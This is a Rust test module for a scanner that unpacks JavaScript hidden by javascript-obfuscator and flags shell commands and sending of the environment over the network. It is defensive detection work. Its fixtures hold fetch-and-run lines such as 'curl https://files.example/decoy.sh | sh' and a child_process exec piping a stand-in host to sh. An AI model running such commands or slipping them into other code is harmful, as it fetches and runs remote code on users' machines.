//! The samples are what `javascript-obfuscator` made of one inert script, with different settings.

use super::*;
use crate::behaviour::Ability;

const PLAIN: &str = include_str!("samples/none.js");
const SAMPLES: &[(&str, &str)] = &[
    ("none", PLAIN),
    ("compact", include_str!("samples/compact.js")),
    ("mangled", include_str!("samples/mangled.js")),
    ("base64", include_str!("samples/b64.js")),
    ("rc4", include_str!("samples/rc4.js")),
];

/// What the script does: whether the command line and the sending of the environment are seen.
fn seen(source: &str) -> (bool, bool) {
    let view = super::super::view("a.js", source.as_bytes());
    let effects = || view.units.iter().flat_map(|unit| &unit.effects);
    let shell = effects().any(|effect| {
        effect.ability == Ability::Shell
            && effect.detail.as_deref() == Some("curl https://files.example/decoy.sh | sh")
            && effect.from.any(Sources::BUILT)
    });
    (shell, effects().any(|effect| effect.ability == Ability::Network && effect.from.any(Sources::ENVIRONMENT)))
}

#[test]
fn the_tables_of_an_obfuscator_open() {
    for (name, source) in SAMPLES {
        assert_eq!(seen(source), (true, true), "{name}");
    }
}

#[test]
fn a_cipher_without_a_sum_that_proves_it_stays_closed() {
    for (name, source) in &SAMPLES[3..] {
        assert!(opens(source), "{name}");
        let (start, end) =
            (source.find("(function (_0x2a2a75").expect("the loop"), source.find("const cp =").expect("the script"));
        assert!(!opens(&format!("{}{}", &source[..start], &source[end..])), "{name}");
    }
}

/// Whether a table of the source opens.
fn opens(source: &str) -> bool {
    !Reader::new(source, 0).tables.is_empty()
}

#[test]
fn a_table_of_another_form_stays_closed() {
    assert!(opens(PLAIN));
    for (what, old, new) in [
        ("the sum is never right", "0xb2a49", "0xb2a4a"),
        ("somebody else has the list", "report();", "report(_0x53dd());"),
        ("the function is another one later", "report();", "_0x4d4a = report; report();"),
        ("there are two of that name", "report();", "function _0x4d4a(a) { return 'x' } report();"),
        ("the text is changed", "return _0x4d4ab5;", "return _0x4d4ab5.trim();"),
        ("an element is no text", "'write'", "write()"),
        ("the loop has another test", "_0x4ff904 === _0x5bf6a6", "_0x4ff904 > _0x5bf6a6"),
        ("something in the sum is unknown", "/ 0x1 *", "/ one *"),
        ("the sum is of another function", "const _0x56705f = _0x4d4a", "const _0x56705f = other"),
    ] {
        assert!(PLAIN.contains(old), "{what}");
        // The last one: names of functions stand in many places.
        let at = PLAIN.rfind(old).expect("it is there");
        let source = format!("{}{new}{}", &PLAIN[..at], &PLAIN[at + old.len()..]);
        assert!(!opens(&source), "{what}");
    }
}

#[test]
fn a_table_that_is_not_turned_opens_by_its_shift() {
    let source = "function t() { var l = ['a', 'child_' + 'process', 'exec']; t = function () { return l; }; return t(); }\n\
        function d(n, k) { n = n + -0x10; var l = t(); var e = l[n]; return e; }\n\
        require(d(0x11))[d('0x12')]('curl https://x.test | sh')";
    let view = super::super::view("a.js", source.as_bytes());
    assert!(view.units[0].effects.iter().any(|effect| effect.ability == Ability::Shell), "{view:?}");
    // Numbers outside of the list, and those that are not known, give nothing.
    for call in ["0x13", "0xf", "x", "0x10 / 0x3", "-1", "NaN"] {
        let source = source.replace("d('0x12')", &format!("d({call})"));
        let view = super::super::view("a.js", source.as_bytes());
        assert!(!view.units[0].effects.iter().any(|effect| effect.ability == Ability::Shell), "{call}");
    }
    // A name of an inner function is its own.
    let inner = format!("{source};\n(function (d) {{ d(0x11) }})(require)");
    assert!(opens(&inner));
}

#[test]
fn numbers_are_read_as_the_loop_reads_them() {
    let all = ["12ab", " 7", "-3x", "+4", "0x1f"].map(whole);
    assert_eq!(all, [Some(12.0), Some(7.0), Some(-3.0), Some(4.0), Some(0.0)]);
    assert_eq!(["", "x1", "-"].map(whole), [None; 3]);
    assert_eq!(base64("y29SBgvJDc5LEgfTCgXL").as_deref(), Some("collect.example"));
    assert_eq!(base64("y29S!"), None);
}

#[test]
fn large_and_hostile_tables_end() {
    let list = "'1a',".repeat(100_000);
    let head = format!(
        "function t(){{const l=[{list}];t=function(){{return l}};return t()}}function d(n){{n=n-0;const l=t();return l[n]}}"
    );
    let sum = "parseInt(d(0))+".repeat(100_000);
    let turn = format!("(function(a,b){{while(1){{try{{const s={sum}1;if(s===b)break}}catch(e){{}}}}}}(t,5))");
    assert!(!opens(&format!("{head}{turn}")));
    let deep = "(".repeat(100_000);
    let small =
        "function t(){const l=['1'];t=function(){return l};return t()}function d(n){n=n-0;const l=t();return l[n]}";
    assert!(opens(small));
    assert!(!opens(&format!("{small}(function(a,b){{const s={deep}parseInt(d(0));if(s===b)break}}(t,1))")));
    let many = "function t(){const l=['1'];t=function(){return l};return t()}".repeat(3000);
    assert!(!opens(&many));
    for cut in (0..PLAIN.len()).step_by(17) {
        seen(&PLAIN[..cut]);
    }
}
